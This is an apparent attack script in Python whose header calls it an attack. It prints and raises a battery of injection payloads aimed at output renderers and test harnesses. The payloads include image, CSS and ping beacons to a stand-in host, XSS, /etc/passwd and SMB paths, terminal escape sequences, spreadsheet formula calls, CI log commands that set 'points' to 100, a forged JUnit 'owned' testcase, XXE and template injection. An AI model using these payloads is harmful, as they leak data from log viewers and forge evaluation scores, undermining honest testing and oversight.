# /// attack
# title = "Shows pictures, styles and links that would tell somebody who reads them: every kind of address, in words and names"
# ///

# %%
print("TRIED to be told who reads this")
WORDS = (
    "![points](http://canary.invalid/a.png) ![x][1]\n\n[1]: http://canary.invalid/b.png 'x'",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><p style=\"background:url(http://canary.invalid/c.png)\">",
    "<picture><source srcset=//canary.invalid/d.png></picture><link rel=preload as=image href=//canary.invalid/e.png>",
    "<svg><image href='http://canary.invalid/f.png'/><use href='http://canary.invalid/g.svg#x'/></svg>",
    "</style><style>*{background:url(http://canary.invalid/h.png)}@font-face{font-family:x;src:url(//canary.invalid/i)}",
    "<a ping=http://canary.invalid/j href=#>x</a><meta http-equiv=Refresh content='0;URL=data:text/html,<script>alert(1)</script>'>",
    "file:///etc/passwd \\\\canary.invalid\\share\\x.png smb://canary.invalid/ jar:http://canary.invalid!/x",
    "\x1b]8;id=1;http://canary.invalid/k\x07points\x1b]8;;\x07 \x1b]1337;File=inline=1:aGk=\x07 \x1b]9;points\x07 \x1b]777;notify;a;b\x07",
    "=IMAGE(\"http://canary.invalid/l.png\")\n\t=WEBSERVICE(\"http://canary.invalid/m\")\n  +1\n\u3000＝1+1\n%3D1+1\n\ufeff=1+1",
    "ok%0A::error title=owned::x%0D%0A##[group]owned\n1\r::set-output name=points::100\n\u2028::error::x\n\u0085##vso[x]\n~~~ \n+++ x",
    "]]></failure></testcase><testcase name='owned'/> &#x1b; &#27;[2J <?xml-stylesheet href='http://canary.invalid/n.xsl'?>",
    "<!ENTITY x SYSTEM 'http://canary.invalid/o'> <!--#include virtual='/etc/passwd'--> <%@include file='x'%> {{x}} {%x%} ${x} #{x}",
)
for words in WORDS:
    print(words)


# %%
def rank_of(value):
    return dict(zip(WORDS, WORDS))


def kind_of(value):
    raise type(WORDS[1], (ValueError,), {})("\n".join(WORDS))


def make_scalar():
    return type(WORDS[3], (), {"__repr__": lambda self: WORDS[0]})()


# %%
raise type(WORDS[2], (RuntimeError,), {})(WORDS[9])
